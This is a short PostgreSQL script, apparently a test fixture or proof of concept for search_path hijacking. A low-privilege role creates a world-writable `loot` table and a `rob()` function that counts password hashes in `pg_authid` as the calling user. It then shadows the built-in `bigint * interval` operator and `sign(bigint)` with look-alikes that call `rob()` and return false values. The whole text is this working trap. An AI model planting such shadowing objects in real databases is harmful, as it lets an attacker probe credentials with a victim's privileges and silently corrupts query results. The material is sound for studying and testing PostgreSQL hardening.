-- Objects of a role that may only create objects in `public`: exact matches for `bigint * interval` and `sign(bigint)`,
-- which are better matches than the server's own for other types.
CREATE TABLE public.loot (victim text, hashes bigint);
GRANT INSERT ON public.loot TO PUBLIC;

CREATE FUNCTION public.rob() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.loot SELECT current_user, count(rolpassword) FROM pg_catalog.pg_authid;
EXCEPTION WHEN insufficient_privilege THEN
    INSERT INTO public.loot VALUES (current_user, 0);
END $$;

CREATE FUNCTION public.for_a_century(bigint, interval) RETURNS interval LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.rob();
    RETURN interval '100 years';
END $$;
CREATE OPERATOR public.* (LEFTARG = bigint, RIGHTARG = interval, FUNCTION = public.for_a_century);

CREATE FUNCTION public.sign(bigint) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.rob();
    RETURN 1000;
END $$;
